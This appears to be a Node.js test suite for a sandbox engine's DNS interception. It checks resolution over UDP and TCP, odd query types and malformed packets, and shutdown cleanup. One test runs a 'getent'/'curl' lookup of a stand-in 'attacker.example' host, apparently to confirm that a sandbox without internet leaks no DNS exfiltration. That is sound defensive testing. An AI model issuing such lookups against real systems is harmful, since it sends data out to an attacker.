/** Names, as a sandbox sees them: answered by the engine whatever resolver is asked. */
import assert from "node:assert/strict";
import dgram from "node:dgram";
import { after, before, describe, test } from "node:test";
import { isRoot, startEngine } from "./harness.mjs";
import { python, startWorker, TOKEN } from "./outside.mjs";

/** Python: `ask(name, type, server, tcp)` returns [rcode, addresses or names]. */
const ASK = `
import socket, struct, random
def query(name, qtype, ident, flags=0x0100, qclass=1, count=1, edns=True):
    q = struct.pack(">6H", ident, flags, count, 0, 0, 1 if edns else 0)
    for label in name.encode().split(b"."):
        if label: q += bytes([len(label)]) + label
    q += b"\\0" + struct.pack(">2H", qtype, qclass)
    return q + (b"\\0" + struct.pack(">HHIH", 41, 4096, 0, 0) if edns else b"")
def parse(data):
    ident, flags, qd, an, ns, ar = struct.unpack(">6H", data[:12])
    at = 12
    while data[at]: at += data[at] + 1
    at += 5
    out = []
    for i in range(an):
        at += 2
        t, c, ttl, n = struct.unpack(">HHIH", data[at:at+10]); at += 10
        out.append(".".join(map(str, data[at:at+n])) if t == 1 else t); at += n
    return [flags & 15, out]
def ask(name, qtype=1, server="198.18.0.1", tcp=False, **more):
    q = query(name, qtype, 77, **more)
    if tcp:
        s = socket.create_connection((server, 53), 5)
        s.sendall(struct.pack(">H", len(q)) + q)
        n = struct.unpack(">H", s.recv(2))[0]
        return parse(s.recv(n))
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(3); s.connect((server, 53)); s.send(q)
    try: return parse(s.recv(4096))
    except socket.timeout: return "silence"
`;

for (const user of isRoot ? ["root", "nobody"] : ["self"]) {
  describe(`names as ${user}`, () => suite(user));
}

function suite(user) {
  let engine;
  let box;
  let open;
  let worker;
  let resolver;
  const asked = [];
  before(async () => {
    worker = await startWorker();
    resolver = await startResolver(asked);
    engine = await startEngine({ user, args: ["--resolver", `127.0.0.1:${resolver.port}`] });
    const egress = { url: worker.url, token: TOKEN, hosts: ["api.example.com"], https_hosts: ["*.tls.example"] };
    box = await engine.sandbox("main", { egress });
    open = await engine.sandbox("open", { egress, enable_internet: true });
  });
  after(async () => {
    await engine.stop();
    await worker.stop();
    resolver.stop();
  });

  test("libraries and tools resolve names", async () => {
    const r = await box.exec(
      "getent hosts api.example.com | grep -c 198.18; getent ahosts other.example | grep -c STREAM; " +
        "python3 -c 'import socket; print(socket.gethostbyname(\"py.example\")[:3])'; " +
        'node -e \'const d=require("dns"); d.resolve4("n.example",(e,a)=>console.log(e?.code??a[0].slice(0,3))); d.resolve6("n.example",(e,a)=>console.log(e?.code))\'',
    );
    assert.equal(r.exitCode, 0, r.stderr);
    assert.deepEqual(r.stdout.split("\n").slice(0, 3), ["1", "1", "198"]);
    assert.deepEqual(r.stdout.split("\n").slice(3, 5).sort(), ["198", "ENODATA"]);
  });
  test("over UDP and TCP, at any address; a name keeps its address", async () => {
    const lines = await python(
      box,
      `${ASK}
first = ask("api.example.com")
print(first[0], len(first[1]))
for server in ("198.18.0.1", "8.8.8.8", "10.0.0.1", "169.254.169.254"):
    for tcp in (False, True):
        assert ask("API.example.COM.", server=server, tcp=tcp) == first, (server, tcp)
assert ask("other.example")[1] != first[1]
assert ask("api.example.com", edns=False) == first
s = socket.create_connection(("9.9.9.9", 53), 5)
many = b"".join(struct.pack(">H", len(q)) + q for q in (query("n%d.example" % i, 1, i) for i in range(50)))
s.sendall(many[:333]); s.sendall(many[333:])
f = s.makefile("rb"); ids = []
for i in range(50):
    n = struct.unpack(">H", f.read(2))[0]; ids.append(struct.unpack(">H", f.read(n)[:2])[0])
print(ids == list(range(50)))
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(3)
s.sendto(query("unconnected.example", 1, 5), ("1.1.1.1", 53)); d, who = s.recvfrom(999); print(who[0], parse(d)[0])
`,
    );
    assert.deepEqual(lines, ["0 1", "True", "1.1.1.1 0"]);
  });
  test("other types, odd names and bad messages", async () => {
    const lines = await python(
      box,
      `${ASK}
a = ask("api.example.com")[1][0].split(".")
print("AAAA", ask("api.example.com", 28)); print("TXT", ask("api.example.com", 16)); print("HTTPS", ask("api.example.com", 65))
print("ANY", ask("api.example.com", 255)[0]); print("PTR", ask(".".join(reversed(a)) + ".in-addr.arpa", 12)); print("PTR?", ask("1.1.1.1.in-addr.arpa", 12))
print("localhost", ask("a.localhost")); print("localhost6", ask("localhost", 28)); print("invalid", ask("x.invalid")); print("space", ask("a b.example"))
print("number", ask("1.2.3.4")); print("class", ask("api.example.com", qclass=3)); print("opcode", ask("api.example.com", flags=0x2900))
print("two", ask("api.example.com", count=2)); print("answer", ask("api.example.com", flags=0x8100))
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.connect(("8.8.8.8", 53)); s.settimeout(0.3)
import os
for n in (0, 1, 11, 12, 13, 100, 1400, 60000): s.send(os.urandom(n))
print("alive", ask("api.example.com")[0])
s = socket.create_connection(("8.8.8.8", 53), 5); s.sendall(b"\\xff\\xff" + b"x" * 5000)
try: print("tcp", s.recv(10))
except OSError as e: print("tcp", b"")
`,
    );
    assert.deepEqual(lines, [
      "AAAA [0, []]",
      "TXT [0, []]",
      "HTTPS [0, []]",
      "ANY 0",
      "PTR [0, [12]]",
      "PTR? [3, []]",
      "localhost [0, ['127.0.0.1']]",
      "localhost6 [0, []]",
      "invalid [3, []]",
      "space [3, []]",
      "number [3, []]",
      "class [5, []]",
      "opcode [4, []]",
      "two silence",
      "answer silence",
      "alive 0",
      "tcp b''",
    ]);
  });
  test("without internet nothing is asked outside", async () => {
    await box.exec("getent hosts secret-data.attacker.example; curl -s http://more-data.attacker.example/");
    assert.deepEqual(
      asked.filter((name) => name.includes("attacker")),
      [],
    );
  });
  test("with internet a name that does not exist is said not to, and intercepted names are not asked", async () => {
    const lines = await python(
      open,
      `${ASK}
print(ask("exists.example")[0], len(ask("exists.example")[1])); print(ask("six.example")[0], len(ask("six.example")[1]), ask("six.example", 28))
print(ask("missing.example")); print(ask("missing.example", 28)); print(ask("broken.example"))
print(ask("api.example.com")[0], ask("a.tls.example")[0])
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(8); s.connect(("1.1.1.1", 53))
for i in range(40): s.send(query("p%d.slow.example" % i, 1, i))
print(sorted(struct.unpack(">H", s.recv(500)[:2])[0] for i in range(40)) == list(range(40)))
`,
      { timeoutMs: 30_000 },
    );
    assert.deepEqual(lines, ["0 1", "0 1 [0, []]", "[3, []]", "[3, []]", "[2, []]", "0 0", "True"]);
    assert.ok(asked.includes("exists.example"));
    assert.ok(!asked.includes("api.example.com") && !asked.includes("a.tls.example"));
  });
  test("a sandbox that ends while names are looked up leaves nothing behind", async () => {
    const b = await engine.sandbox("ends", { enable_internet: true });
    await b.exec(
      "for i in 1 2 3 4 5 6; do (getent hosts $i.never.example &) ; done; curl -s -m 1 http://x.never.example/; true",
    );
    await engine.api("DELETE", "/v1/sandboxes/ends");
    assert.equal((await engine.api("GET", "/v1/health")).status, 200);
    assert.equal((await open.exec("getent hosts exists.example")).exitCode, 0);
  });
}

/** A resolver of the outside. Names tell what it does. */
async function startResolver(asked) {
  const server = dgram.createSocket("udp4");
  server.on("message", (msg, from) => {
    let at = 12;
    const labels = [];
    for (; msg[at] > 0; at += msg[at] + 1) labels.push(msg.subarray(at + 1, at + 1 + msg[at]).toString());
    const type = msg.readUInt16BE(at + 1);
    const name = labels.join(".").toLowerCase();
    asked.push(name);
    const kind = labels.at(-2);
    if (kind === "never") return;
    const six = kind === "six" ? type === 28 : type === 1;
    const rcode = kind === "missing" ? 3 : kind === "broken" ? 2 : 0;
    const out = [Buffer.from(msg.subarray(0, at + 5))];
    out[0].writeUInt16BE(0x8180 | rcode, 2);
    out[0].writeUInt16BE(0, 8);
    out[0].writeUInt16BE(0, 10);
    if (rcode === 0 && six) {
      out[0].writeUInt16BE(1, 6);
      const data =
        type === 28 ? Buffer.from("20010db8000000000000000000000001", "hex") : Buffer.from([93, 184, 216, 34]);
      const head = Buffer.from([0xc0, 12, 0, type, 0, 1, 0, 0, 0, 60, 0, data.length]);
      out.push(head, data);
    } else {
      out[0].writeUInt16BE(0, 6);
    }
    setTimeout(() => server.send(Buffer.concat(out), from.port, from.address), kind === "slow" ? 100 : 0);
  });
  await new Promise((done) => server.bind(0, "127.0.0.1", done));
  return { port: server.address().port, stop: () => server.close() };
}
